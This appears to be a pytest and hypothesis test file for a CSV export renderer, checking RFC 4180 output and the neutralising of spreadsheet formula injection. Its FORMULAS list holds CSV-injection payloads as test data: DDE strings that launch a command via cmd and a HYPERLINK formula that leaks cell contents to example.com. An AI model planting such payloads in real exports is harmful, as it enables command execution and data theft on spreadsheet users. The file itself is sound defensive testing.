"""CSV, as Python's reader of it and a spreadsheet understand it."""

import csv
import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from export_service.renderers.content import Content, Item
from export_service.renderers.csv_file import COLUMNS, defused, is_formula, render_csv
from export_service.renderers.prose import printable

NewContent = Callable[..., Content]
#: What people and models write.
TYPED = ("category", "difficulty", "text", "answer", "keyPoints", "followUps", "notes")
SIGNS = [*"=+-@", "\t=", "\r=", *"\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b"]
BEFORE = ["", " ", "   ", '"', "'", "''", "\u00a0", "\u3000", "\u200b", "\ufeff", "\u202e", "\n", " \"'", "“", "\x00"]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def rows(content: Content) -> list[dict[str, str]]:
    text = render_csv(content).decode()
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def row(content: Content) -> dict[str, str]:
    (only,) = rows(content)
    return only


def typed_back(cell: str) -> str:
    """The cell without the apostrophe that defused it."""
    return cell[1:] if cell.startswith("'") and is_formula(cell[1:]) else cell


def plain(text: str) -> str:
    return printable(re.sub("\r\n?|[\u2028\u2029]", "\n", text))


def test_a_row_holds_a_question_under_the_names_of_the_api(content: NewContent) -> None:
    told = content(key_points=["One", "Two"], is_pinned=True, answer='He said "so",\nand left.')
    assert row(told) == {
        "sessionId": told.id,
        "id": told.items[0].id,
        "category": "Topic",
        "difficulty": "easy",
        "isPinned": "true",
        "text": "Question?",
        "answer": 'He said "so",\nand left.',
        "keyPoints": "One\nTwo",
        "followUps": "Follow-up?",
        "notes": "Note.",
    }


def test_the_bytes_are_those_of_rfc_4180(content: NewContent) -> None:
    lines = render_csv(content(answer='a "b", c')).decode().split("\r\n")
    assert lines[0] == ",".join(f'"{name}"' for name in COLUMNS)
    assert '"a ""b"", c"' in lines[1]
    assert lines[2:] == [""]


def test_a_byte_order_mark_stands_in_front_only_if_it_is_asked_for(content: NewContent) -> None:
    with_bom, without = render_csv(content(bom=True)), render_csv(content())
    assert with_bom == b"\xef\xbb\xbf" + without
    assert without.startswith(b'"sessionId"')


def test_a_session_without_questions_is_its_header(content: NewContent) -> None:
    empty = content(items=[])
    assert rows(empty) == []
    assert render_csv(empty).decode().count("\r\n") == 1


def test_questions_are_in_the_order_of_the_session(content: NewContent) -> None:
    items = [Item(f"{n:024x}", f"Q{n}?", "", "easy", "A", [], [], False, "") for n in range(50)]
    assert [one["text"] for one in rows(content(items=items))] == [f"Q{n}?" for n in range(50)]


def test_hostile_text_is_read_back_as_it_is(hostile: str, hostile_content: Content) -> None:
    told = row(hostile_content)
    wanted = {name: plain(" ".join(hostile.split()) if name == "text" else hostile) for name in TYPED}
    assert {name: typed_back(told[name]) for name in TYPED} == wanted


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula_whatever_field_it_is_typed_into(formula: str, content: NewContent) -> None:
    fields: dict[str, Any] = dict.fromkeys(("category", "difficulty", "text", "answer", "notes"), formula)
    told = row(content(**fields, key_points=[formula, "x"], follow_ups=[formula]))
    assert [name for name in TYPED if not told[name].startswith("'")] == []
    assert [typed_back(told[name]) for name in ("answer", "notes")] == [plain(formula)] * 2


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", BEFORE)
def test_a_sign_is_seen_in_every_width_and_behind_what_a_spreadsheet_passes_over(sign: str, before: str) -> None:
    assert defused(f"{before}{sign}1+1").startswith("'")


@pytest.mark.parametrize("text", ["", "a=1", "1 - 1", "x@example.com", "'quoted'", '"quoted"', "…", "日本", "#=", " "])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40) | st.text("=+-@'\" \t\na1", max_size=12))
@example("'\n")
def test_what_was_typed_can_always_be_told_from_the_cell(text: str) -> None:
    assert typed_back(defused(text)) == text
    assert not is_formula(defused(text)) or defused(text).startswith("'")
